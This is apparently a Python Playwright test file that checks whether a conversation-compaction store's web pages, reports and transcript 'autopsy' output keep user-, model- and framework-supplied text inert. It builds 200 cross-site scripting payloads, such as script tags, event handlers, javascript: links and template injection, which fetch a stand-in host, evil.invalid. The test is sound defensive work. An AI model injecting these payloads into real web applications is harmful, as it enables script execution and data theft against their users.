"""Two hundred payloads, in every field that a user, a model or a framework can fill, stay text in a real browser."""

from __future__ import annotations

import asyncio
import json
import random
import subprocess
import sys
import uuid
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, Route
from web.audited import client

import compaction_store as cs
from compaction_store.reporting import gather
from compaction_store.reporting.page import render

RUN = "window.ran=1;fetch('http://evil.invalid/')"
_BEFORE = (
    "",
    '">',
    "'>",
    "</pre>",
    "</script>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    '" ',
    "' ",
    "`",
    '\\"',
    "</style>",
)
_BODIES = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN!r}>",
    f"<svg onload={RUN!r}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<body onload={RUN!r}>",
    f"autofocus tabindex=1 onfocus={RUN!r} x=",
    f"<details open ontoggle={RUN!r}>",
    "<link rel=stylesheet href=http://evil.invalid/>",
    "<img src=http://evil.invalid/x.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button autofocus>",
    "<object data=http://evil.invalid/>",
    f"{{{{ [].constructor.constructor({RUN!r})() }}}}",
    f"javascript:{RUN}",
    f"<math><mtext><style><img onerror={RUN!r} src=x>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"\u202e<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<template><script>{RUN}</script></template>",
    f"<input onfocus={RUN!r} autofocus>",
    f"<video><source onerror={RUN!r}></video>",
)
_COUNTED = "[...document.querySelectorAll('script,iframe,object,embed,base,img,template,video,math')].length"
PAYLOADS = random.Random(7).sample([before + body for before, body in product(_BEFORE, _BODIES)], 200)


def test_none_of_them_runs_or_loads_anything(context: BrowserContext, store: cs.Store) -> None:
    names = [f"{number} {payload}"[:200] for number, payload in enumerate(PAYLOADS)]
    for name, payload in zip(names, PAYLOADS, strict=True):
        fill(store, name, payload)
    elsewhere: list[str] = []
    dialogs: list[str] = []

    def see(request: Request) -> None:
        if not request.url.startswith("http://127.0.0.1:"):
            elsewhere.append(request.url)

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page = context.new_page()
    page.on("request", see)
    page.on("dialog", dismiss)
    looked = 0
    for number, (name, payload) in enumerate(zip(names, PAYLOADS, strict=True)):
        addresses = [
            ("thread", {}), ("record", {"number": 1}), ("view", {"at": 4, "beside": 5}), ("message", {"seq": 2}),
            ("certificate", {"pos": 8}), ("reply", {"seq": 4}), ("record", {"number": 2}), ("certificate", {"pos": 9}),
        ]  # fmt: skip
        # All fields are on these pages; a part of them at a time keeps the run short.
        for address, parameters in addresses if number % 5 == 0 else addresses[number % 4 :: 4]:
            check(page, f"./{address}?{urlencode({'id': name, **parameters})}")
            looked += 1
        if number % 10 == 0:
            check(page, f"./search?{urlencode({'q': payload[:100]})}")
            for name_of_filter in ("id", "actor", "model", "login", "callback", "trigger"):
                check(page, f"./records?{urlencode({name_of_filter: payload[:200]})}", known={200, 404})
            for name_of_filter in ("kind", "outcome", "since", "run_id", "covering", "authority"):
                check(page, f"./records?{urlencode({name_of_filter: payload})}", known={400})
            check(page, f"./sample?{urlencode({'seed': 1, 'actor': payload, 'until': '2100-01-01'})}")
            check(page, f"./record?{urlencode({'id': name, 'number': 1, 'sample': json.dumps({payload: payload})})}")
            check(page, f"./threads?{urlencode({'after': name})}")
    check(page, f"./sample?{urlencode({'seed': 1, 'count': 200, 'kind': 'summary', 'until': '2100-01-01'})}")
    check(page, "./")
    check(page, "./erasures")
    check(page, "./erasures?order=oldest")
    check(page, "./reviews")
    check(page, "./leases")
    check(page, f"./integrity?{urlencode({'id': names[0]})}")
    assert looked > 500
    assert not dialogs
    assert not elsewhere


def check(page: Page, address: str, known: Iterable[int] = (200,)) -> None:
    answer = page.goto(address)
    assert answer is not None
    assert answer.status in known, address
    assert page.evaluate("window.ran") is None, address
    assert page.evaluate(_COUNTED) == 0, address


def fill(store: cs.Store, name: str, payload: str) -> None:
    """Puts a payload into every field that a user, a model, a framework or an auditor can fill."""
    content = [
        {"type": "text", "text": payload}, {"type": "image", "source": {"type": "url", "url": payload}},
        {"type": "tool_use", "id": payload, "name": payload, "input": {payload: payload}},
    ]  # fmt: skip
    result = {"type": "tool_result", "tool_use_id": payload, "content": payload}
    long = f"{payload} and more words, so that a summary is shorter " * 4
    store.append(
        name,
        [
            {"role": "user", "content": long, "name": payload},
            {"role": "assistant", "content": content, "id": payload},
            {"role": "user", "content": [result]},
        ],
        meta=[{payload: payload}] * 3,
    )
    store.append(name, {"role": "assistant", "content": payload}, view=store.view(name))
    store.set_metadata(name, {payload: payload})

    def fold(ctx: cs.CompactionContext) -> None:
        made = cs.Summary(
            payload, summarizer=payload[:200], model=payload[:200], prompt=payload, settings={payload: payload},
            usage={payload: 3}, provider={payload: payload}, checks={payload: payload},
        )  # fmt: skip
        ctx.compact(1, 3, made, reason=payload, allow={"last_user"})

    def too_long(ctx: cs.CompactionContext) -> None:
        ctx.compact(1, 3, f"{payload} much too long " * 60, reason=payload, allow={"last_user"})

    store.compact(name, fold, actor=payload[:200], authority={payload: payload})
    store.compact(name, too_long, actor=payload[:200], authority={payload: payload})
    store.custody.hold(name, reason=payload, actor=payload[:200], authority={payload: payload})
    sample = {"seed": 1, "count": 200, "population": 200, payload: payload}
    store.audit.review(name, 1, "bad", note=payload, sample=sample, actor=payload[:200])


def test_a_report_of_them_is_as_inert(browser: Browser, url: str, store: cs.Store, tmp_path: Path) -> None:  # noqa: ARG001 — the database
    names = [f"{number} {payload}"[:200] for number, payload in enumerate(PAYLOADS)]
    for name, payload in zip(names, PAYLOADS, strict=True):
        fill(store, name, payload)
    file = tmp_path / "report.html"
    document = gather(store, names, tenant=PAYLOADS[0], made_by=PAYLOADS[1], whole=True)
    file.write_bytes(render(document))
    asked: list[str] = []
    page = browser.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto(file.as_uri())
    assert page.evaluate("window.ran") is None
    # The template that carries the data is the report's own.
    assert page.evaluate(_COUNTED.replace("template", "template:not(#data)")) == 0
    assert asked == [file.as_uri()]
    assert page.locator("section").count() == len(PAYLOADS)
    page.close()


_SITE = "http://127.0.0.1:8780"
_PAGES_OF_TENANT = (
    "/",
    "/threads",
    "/thread?id=t",
    "/records",
    "/erasures",
    "/certificate?id=t&pos=2",
    "/integrity?id=t",
    "/sample",
)


async def _answers(url: str) -> dict[str, httpx.Response]:
    """Returns the pages of a tenant for each payload, by an address of their own."""
    found = {}
    for number, payload in enumerate(PAYLOADS):
        async with client(url, tenant=payload) as opened:
            for page in _PAGES_OF_TENANT:
                found[f"{_SITE}/{number}{page}"] = await opened.get(page)
    return found


def test_a_tenant_with_a_payload_as_its_name_is_as_inert(browser: Browser, url: str) -> None:
    for payload in PAYLOADS:
        with cs.Store.open(url, tenant=payload) as store:
            store.append("t", {"role": "user", "content": "hello"})
            store.custody.hold("t", reason="a lawsuit", actor="legal")
    # The browser's own event loop runs in this thread.
    with ThreadPoolExecutor(1) as pool:
        answers = pool.submit(asyncio.run, _answers(url)).result()
    elsewhere: list[str] = []

    def fulfil(route: Route) -> None:
        answer = answers.get(route.request.url)
        if answer is None:
            if not route.request.url.endswith(("/style.css", "/icon.svg", "/chart.svg?id=t")):
                elsewhere.append(route.request.url)
            route.fulfill(status=404)
        else:
            route.fulfill(status=answer.status_code, headers=dict(answer.headers), body=answer.content)

    page = browser.new_page()
    page.route("**/*", fulfil)
    page.on("dialog", lambda dialog: dialog.dismiss())
    for address in answers:
        check(page, address)
    assert not elsewhere
    page.close()


def _transcript(folder: Path) -> Path:
    """Writes a session of Claude Code whose orders, files and summaries are payloads."""
    own = str(uuid.UUID(int=7, version=4))
    lines: list[str] = []

    def add(**fields: Any) -> None:
        at = f"2026-11-01T{10 + len(lines) // 3600:02d}:{len(lines) // 60 % 60:02d}:{len(lines) % 60:02d}.000Z"
        known: dict[str, Any] = {
            "uuid": str(uuid.UUID(int=len(lines) + 1, version=4)),
            "sessionId": own,
            "timestamp": at,
        }
        known |= {"parentUuid": json.loads(lines[-1])["uuid"] if lines else None, "isSidechain": False}
        lines.append(json.dumps(known | {"version": "2.0.0"} | fields))

    for turn, payload in enumerate(PAYLOADS):
        add(
            type="user",
            message={"role": "user", "content": f"Never touch {payload}. Look into TICKET-{turn}{payload}."},
        )
        call = {"type": "tool_use", "id": f"toolu_{turn}", "name": payload, "input": {payload: payload}}
        add(type="assistant", message={"role": "assistant", "id": f"a{turn}", "content": [call]})
        result = {"type": "tool_result", "tool_use_id": f"toolu_{turn}", "content": f"marmalade {payload}\n" * 9}
        add(type="user", message={"role": "user", "content": [result]})
        if turn % 20 == 19:
            add(type="system", subtype="compact_boundary", compactMetadata={"trigger": "auto", "preTokens": 9000})
            text = f"Worked on {payload} and on /srv/{turn}/{payload} with ID-{turn}{payload}."
            add(type="user", isCompactSummary=True, message={"role": "user", "content": text})
    path = folder / "projects" / f"{own}.jsonl"
    path.parent.mkdir(parents=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path.parent


def test_the_files_of_evaluate_and_autopsy_are_as_inert(browser: Browser, url: str, tmp_path: Path) -> None:
    with cs.Store.open(url) as store:
        for number, payload in enumerate(PAYLOADS[::5]):
            fill(store, f"{number} {payload}"[:200], payload)
    evaluation, autopsy = tmp_path / "evaluation.html", tmp_path / "autopsy.html"
    for arguments in (
        ("evaluate", "--url", url, "--out", str(evaluation)),
        ("autopsy", str(_transcript(tmp_path)), "--url", url, "--out", str(autopsy)),
    ):
        done = subprocess.run(
            [sys.executable, "-m", "compaction_store", *arguments], capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stderr
    for file, least in ((evaluation, 0), (autopsy, 20)):
        asked: list[str] = []
        page = browser.new_page()
        page.on("request", lambda request, asked=asked: asked.append(request.url))
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.goto(file.as_uri())
        assert page.evaluate("window.ran") is None
        assert page.evaluate(_COUNTED) == 0
        assert asked == [file.as_uri()]
        assert page.locator("li").count() >= least
        page.close()
